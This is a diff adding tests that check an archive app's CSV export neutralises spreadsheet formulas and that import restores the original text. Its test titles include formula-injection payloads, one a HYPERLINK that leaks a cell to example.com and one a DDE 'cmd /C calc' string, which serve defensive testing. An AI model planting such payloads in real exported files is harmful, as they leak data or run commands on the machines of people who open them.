@@ -263,6 +263,63 @@ def test_export_then_import_is_a_round_trip(tmp_path, vocabulary):
     assert second.read_bytes() == first.read_bytes()
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exported_cells(path):
+    with open(path, encoding="utf-8-sig", newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def test_export_neutralises_formulas_and_import_restores_the_exact_text(tmp_path, vocabulary):
+    titles = {
+        "F-1": '=HYPERLINK("http://example.com/?leak="&A1,"ดูภาพ")',
+        "F-2": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "F-3": "+66 81 234 5678",
+        "F-4": "-20 degrees on the night boat",
+        "F-5": "'quoted' in the narrator's words",
+        "F-6": "''two apostrophes",
+        "F-7": "'=an apostrophe, then an equals sign",
+        "F-8": "Tab\tinside is fine",
+    }
+    for accession, title in titles.items():
+        make_item(accession_number=accession, title=title, title_th="เรือประมง", title_my="=ငါးဖမ်းလှေ",
+                  description="=1+2\nsecond line", date="1995")
+    Item.objects.get(accession_number="F-1").tags.add("@home", "ท่าเรือ")
+    Item.objects.get(accession_number="F-2").places.add(make_place("-Khlong > Mae Sot"))
+    make_item(accession_number="=1+1", title="An accession number that looks like a formula")
+    first = tmp_path / "first.csv"
+    items_export(out=first)
+
+    cells = exported_cells(first)
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert "'" + titles["F-1"] in cells and "'" + titles["F-5"] in cells and "'=1+1" in cells
+    assert "เรือประมง" in cells and "'=ငါးဖမ်းလှေ" in cells and titles["F-8"] in cells
+    before = {item.accession_number: (item.title, item.title_th, item.title_my, item.description, item.date,
+                                      sorted(item.tags.names()), [place.path() for place in item.places.all()])
+              for item in Item.objects.all()}
+
+    Item.objects.all().delete()
+    report = items_import(path=first, dry_run=False, by=None)
+
+    assert report.ok, report.errors
+    after = {item.accession_number: (item.title, item.title_th, item.title_my, item.description, item.date,
+                                     sorted(item.tags.names()), [place.path() for place in item.places.all()])
+             for item in Item.objects.all()}
+    assert after == before
+    second = tmp_path / "second.csv"
+    items_export(out=second)
+    assert second.read_bytes() == first.read_bytes()
+
+
+def test_a_hand_written_apostrophe_is_kept_unless_it_guards_a_formula(tmp_path):
+    path = write_csv(tmp_path, [good_row(accession_number="H-1", title="'Tis the season", title_th="'เรือ"),
+                                good_row(accession_number="H-2", title="'=1+1", title_th="''ท่าเรือ")])
+    assert items_import(path=path, dry_run=False, by=None).ok
+    assert list(Item.objects.order_by("accession_number").values_list("title", "title_th")) == [
+        ("'Tis the season", "'เรือ"), ("=1+1", "'ท่าเรือ")]
+
+
 def test_import_command_exits_non_zero_and_lists_every_error(tmp_path, capsys):
     path = write_csv(tmp_path, [good_row(kind="x"), good_row(accession_number="B", date="soon")])
     with pytest.raises(CommandError, match="2 problem"):
